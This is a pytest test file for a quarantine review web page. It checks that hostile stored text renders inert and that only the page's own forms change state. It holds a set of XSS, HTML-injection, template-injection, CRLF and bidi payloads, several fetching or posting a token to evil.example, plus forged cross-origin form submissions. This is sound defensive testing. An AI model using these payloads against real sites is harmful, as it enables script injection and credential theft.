"""The review page: hostile text is shown as text, in a real browser, too; only its own forms change anything."""

from __future__ import annotations

import asyncio
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest
import sqlalchemy as sa

from ragguard.cli.listening import LOOPBACK, listen, url
from ragguard.quarantine import Quarantine, content_key
from ragguard.review.app import EXCERPT, FORM, PAGE, PART, application
from ragguard.review.guarded import HEADERS
from ragguard.text.shown import in_line, marked, pieces, visible
from ragguard.types import Document, Span, Verdict

HERE = "http://127.0.0.1:8378"
RUNS = "document.title = 'RUN'; document.body.dataset.run = 1; fetch('https://evil.example/')"
HOSTILE = {
    "script": f"<script>{RUNS}</script>",
    "handler": f'<img src=x onerror="{RUNS}"><svg onload="{RUNS}"><body onload="{RUNS}">',
    "breaks out": f"\"'></mark></div></textarea></title><script>{RUNS}</script><style>body{{display:none}}</style>",
    "form": '</form><form action="https://evil.example/"><input name=token><button>Release</button></form><base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><iframe src="https://evil.example/"></iframe>',
    "template": "{{ 123457 * 7 }}{% for one in entries %}{{ one }}{% endfor %}{{ token }}${123457*7}<%= 123457*7 %>",
    "link": "javascript:alert(1) [x](javascript:alert(1)) https://evil.example/\r\nX-Header: 1",
    "bidi": "pay \u202e1000\u202c to \u2066evil\u2069 \u200f\u061c",
    "nul": "before\x00after\x1b[31mred\x7f\x85\u2028",
    "surrogate": "half \ud83d here",
    "zalgo": "Z" + "\u0335\u0321\u0337" * 2000,
    "long": "word " * 250_000,
    "unbroken": "w" * 1_000_000,
    "noncharacters": "a\ufffe\U0010ffff\ue000\u3164\u00ad\ufeff b",
}


def held(path: Path) -> Quarantine:
    quarantine = Quarantine(path)
    for name, text in HOSTILE.items():
        document = Document(text[:300], text, {"source": text[:300], text[:300]: text[:3000]})
        verdict = Verdict(document.id, text[:300], "drop", text[:300], 1, None, {text[:50]: 0.5}, (Span(0, 5), Span(2, 9)), 1.0)
        quarantine.hold(document, verdict, by=name, query=text[:300])
    return quarantine


@pytest.fixture
def quarantine(tmp_path: Path) -> Iterator[Quarantine]:
    with held(tmp_path / "q.db") as made:
        yield made


def ask(quarantine: Quarantine, method: str, path: str, **options: Any) -> httpx.Response:
    async def asked() -> httpx.Response:
        transport = httpx.ASGITransport(application(quarantine))
        async with httpx.AsyncClient(transport=transport, base_url=HERE) as client:
            if form := options.pop("form", None):  # of a page of the same run
                page = await client.get(path)
                token = re.search('name="token" value="([^"]+)"', page.text)
                assert token
                options["content"] = urlencode({"token": token[1], **form})
                options.setdefault("headers", {"origin": HERE})
            return await client.request(method, path, **options)

    return asyncio.run(asked())


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_text(quarantine: Quarantine, name: str) -> None:
    text = HOSTILE[name]
    for path in ("/", f"/?by={name}&state=held", f"/texts/{content_key(text)}"):
        answer = ask(quarantine, "GET", path)
        assert answer.status_code == 200
        assert dict(HEADERS).items() <= {key: answer.headers[key] for key in HEADERS}.items()
        assert "x-header" not in answer.headers
        tags = {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z!]+)", answer.text)}
        assert not tags & {"script", "img", "svg", "iframe", "base", "object"}
        assert answer.text.count("<meta") == 2
        assert answer.text.count("<style") == 0
        assert not re.search(r"<[^>]*\son\w+=", answer.text)
        assert not re.search(
            "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]", answer.text
        )
        assert "864199" not in answer.text
        assert len(answer.content) < 300_000
    assert answer.text.count('action="') == 1


def test_the_list_cuts_filters_and_pages(quarantine: Quarantine) -> None:
    page = ask(quarantine, "GET", "/?by=long").text
    assert f"({len(HOSTILE['long']) - EXCERPT:,} more characters)" in page
    assert page.count("<li>") == 1
    assert ask(quarantine, "GET", "/?state=confirmed").text.count("Nothing here.") == 1
    for i in range(PAGE):
        quarantine.hold(Document(f"more-{i}", f"text {i}"), Verdict(f"more-{i}", "Guard", "drop", "why", 1, None), by="more")
    page = ask(quarantine, "GET", "/").text
    assert page.count("<li>") == PAGE
    (earlier,) = re.findall(r'href="([^"]+)">Earlier ones', page)
    assert ask(quarantine, "GET", earlier).text.count("<li>") == len(HOSTILE)
    for wrong in ("/?state=lost", "/?before=x", f"/?before={2**40}", f"/texts/{'0' * 64}", "/texts/%00", "/none"):
        answer = ask(quarantine, "GET", wrong)
        assert answer.status_code in (404, 422)
        assert "This could not be done" in answer.text


def test_a_long_text_comes_in_parts(quarantine: Quarantine) -> None:
    text = "a" * PART + "<b>" + "c" * PART
    verdict = Verdict("parts", "Guard", "drop", "why", 1, None, {}, (Span(PART - 1, PART + 3),))
    quarantine.hold(Document("parts", text), verdict)
    page = f"/texts/{content_key(text)}"
    assert "<mark>a</mark></div>" in ask(quarantine, "GET", page).text
    second = ask(quarantine, "GET", f"{page}?part=2").text
    assert '<div class="text" dir="auto"><mark>&lt;b&gt;</mark>ccc' in second
    assert f"Part 2 of 3 of {2 * PART + 3:,} characters" in second
    assert "Part 3 of 3" in ask(quarantine, "GET", f"{page}?part=99").text


def test_a_decision_is_made_by_the_form_and_told(quarantine: Quarantine) -> None:
    key = content_key(HOSTILE["script"])
    decision = {"decision": "confirm", "actor": "Ada <b>", "reason": "An \u202einjection.", "seen": "1"}
    answer = ask(quarantine, "POST", f"/texts/{key}", form=decision)
    assert (answer.status_code, answer.headers["location"]) == (303, f"/texts/{key}")
    event = quarantine.show(key).history[-1]
    assert (event.what, event.actor, event.reason) == ("confirm", "Ada <b>", "An \u202einjection.")
    page = ask(quarantine, "GET", f"/texts/{key}").text
    assert "confirm by <bdi>Ada &lt;b&gt;</bdi>: <bdi>An ⟨U+202E⟩injection.</bdi>" in page
    for changed, told in (
        ({"decision": "release"}, "has changed since you looked"),
        ({"decision": "confirm", "seen": "2"}, "is confirmed already"),
        ({"decision": "release", "seen": "2", "actor": " "}, "actor must be"),
    ):
        answer = ask(quarantine, "POST", f"/texts/{key}", form={**decision, **changed})
        assert answer.status_code == 422
        assert told in answer.text
        assert "An ⟨U+202E⟩injection.</textarea>" in answer.text, "what was typed is not lost"
    assert len(quarantine.show(key).history) == 2


GOOD = {"decision": "release", "actor": "Ada", "reason": "why", "seen": "1"}
FORGED: dict[str, tuple[dict[str, str], dict[str, str], int]] = {
    "another origin": ({}, {"origin": "https://evil.example"}, 403),
    "another port": ({}, {"origin": "http://127.0.0.1:1"}, 403),
    "no origin": ({}, {}, 403),
    "a sandbox": ({}, {"origin": "null"}, 403),
    "rebound name": ({}, {"origin": "http://evil.example", "host": "evil.example"}, 400),
    "no token": ({"token": ""}, {"origin": HERE}, 403),
    "a guess": ({"token": "\u00e9" * 43}, {"origin": HERE}, 403),
    "no decision": ({"decision": "delete"}, {"origin": HERE}, 422),
    "not seen": ({"seen": "-1"}, {"origin": HERE}, 422),
    "too long": ({"reason": "w" * FORM}, {"origin": HERE}, 413),
}


@pytest.mark.parametrize("name", FORGED)
def test_what_its_own_form_did_not_send_changes_nothing(quarantine: Quarantine, name: str) -> None:
    form, headers, status = FORGED[name]
    key = content_key(HOSTILE["script"])
    answer = ask(quarantine, "POST", f"/texts/{key}", form={**GOOD, **form}, headers=headers)
    assert answer.status_code == status
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert quarantine.show(key).state == "held"


def test_no_get_changes_anything_and_a_form_outlives_no_run(quarantine: Quarantine) -> None:
    key = content_key(HOSTILE["script"])
    before = quarantine.entries()
    for method in ("GET", "HEAD", "PUT", "DELETE", "OPTIONS"):
        for path in ("/", f"/texts/{key}", f"/texts/{key}?{urlencode(GOOD)}", "/style.css"):
            answer = ask(quarantine, method, path, headers={"origin": HERE})
            assert answer.status_code == (200 if method == "GET" else 405)
    for body, status in ((urlencode({**GOOD, "token": "x" * 43}).encode(), 403), (b"\xff=1", 400), (b"a&" * 99, 400)):
        assert ask(quarantine, "POST", f"/texts/{key}", content=body, headers={"origin": HERE}).status_code == status
    assert ask(quarantine, "GET", "/", headers={"host": "evil.example"}).status_code == 400
    assert quarantine.entries() == before


def test_a_quarantine_that_is_damaged_is_told_without_what_is_inside(quarantine: Quarantine, tmp_path: Path) -> None:
    engine = sa.create_engine(f"sqlite:///{tmp_path / 'q.db'}")
    with engine.begin() as connection:
        connection.execute(sa.text("UPDATE ragguard_quarantine_event SET grounds = '{'"))
    engine.dispose()
    answer = ask(quarantine, "GET", "/")
    assert answer.status_code == 503
    assert "q.db" not in answer.text


def test_unseen_characters_are_shown_and_spans_marked() -> None:
    assert visible("a\u202eb\x00\x00c\td\n") == "a⟨U+202E⟩b⟨U+0000 ×2⟩c\td\n"
    assert in_line("a\r\n\tb\u2028") == "a⟨U+000D⟩⟨U+000A⟩⟨U+0009⟩b⟨U+2028⟩"
    assert marked("ab\u200bcd", [Span(1, 4)]) == "a⟦b⟨U+200B⟩c⟧d"
    assert [one.meaning for one in pieces("\u202e")] == ["RIGHT-TO-LEFT OVERRIDE"]
    for seen in ("naïve Ωμέγα 漢字 עברית العربية हिन्दी 한국어", "e\u0301", "\u00a0"):
        assert visible(seen) == seen
    for text in HOSTILE.values():
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]", visible(text))


@pytest.fixture
def served(quarantine: Quarantine) -> Iterator[str]:
    uvicorn = pytest.importorskip("uvicorn")
    listening = listen(LOOPBACK, 0)
    server = uvicorn.Server(uvicorn.Config(application(quarantine), log_config=None))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
    thread.start()
    while not server.started:
        time.sleep(0.01)
    yield url(listening)
    server.should_exit = True
    thread.join()


def test_in_a_browser_nothing_runs_and_nothing_is_fetched(browser: Any, served: str) -> None:
    page = browser.new_page()
    asked: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: asked.append(request.url))

    def dismiss(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    for path in ("/", *(f"/texts/{content_key(text)}" for text in HOSTILE.values())):
        page.goto(served + path)
        assert page.title() != "RUN"
        assert page.url == served + path
        assert page.evaluate("document.body.dataset.run") is None
        assert (
            page.evaluate("document.querySelectorAll('script, img, svg, iframe, base, style, [onload], [onerror]').length") == 0
        )
        assert page.evaluate("getComputedStyle(document.body).maxWidth") != "none", "the style sheet is applied"
        assert page.evaluate("document.forms.length") == (0 if path == "/" else 1)
    page.set_viewport_size({"width": 360, "height": 740})
    for path in ("/", *(f"/texts/{content_key(text)}" for text in HOSTILE.values())):
        page.goto(served + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 360, f"{path} is wider than a telephone"
    assert {one for one in asked if not one.startswith(served)} == set()
    assert dialogs == []
    page.close()


def test_in_a_browser_decisions_are_made_from_the_page_only(browser: Any, served: str, quarantine: Quarantine) -> None:
    page = browser.new_page()
    page.goto(served)
    page.get_by_role("link", name="by bidi").click()
    page.locator("ol.texts a").click()
    key = content_key(HOSTILE["bidi"])
    assert page.url == f"{served}/texts/{key}"
    assert page.locator("mark .unseen").first.get_attribute("title") == "RIGHT-TO-LEFT OVERRIDE"
    page.get_by_role("button", name="Confirm").click()
    assert quarantine.show(key).state == "held", "the browser asks who and why"
    page.get_by_label("Who you are").fill("Ada")
    page.get_by_label("Why").fill("It turns a number around.")
    page.get_by_role("button", name="Confirm").click()
    page.wait_for_selector(".state.confirmed")
    event = quarantine.show(key).history[-1]
    assert (event.what, event.actor, event.reason) == ("confirm", "Ada", "It turns a number around.")
    token = page.locator("input[name=token]").get_attribute("value")
    inputs = "".join(f'<input name="{k}" value="{v}">' for k, v in {**GOOD, "seen": "2", "token": token}.items())
    forged = f'<form method="post" action="{served}/texts/{key}">{inputs}</form>'
    with browser.new_page() as other:  # even with the token, a page elsewhere has another origin
        other.route("http://evil.test/", lambda route: route.fulfill(body=forged, content_type="text/html"))
        other.goto("http://evil.test/")
        with other.expect_navigation() as navigation:
            other.evaluate("document.forms[0].submit()")
        assert navigation.value.status == 403
        framed = f'<iframe src="{served}/texts/{key}"></iframe>'
        other.route("http://frame.test/", lambda route: route.fulfill(body=framed, content_type="text/html"))
        other.goto("http://frame.test/")
        assert other.frames[1].locator("form").count() == 0
    assert quarantine.show(key).state == "confirmed"
    page.close()
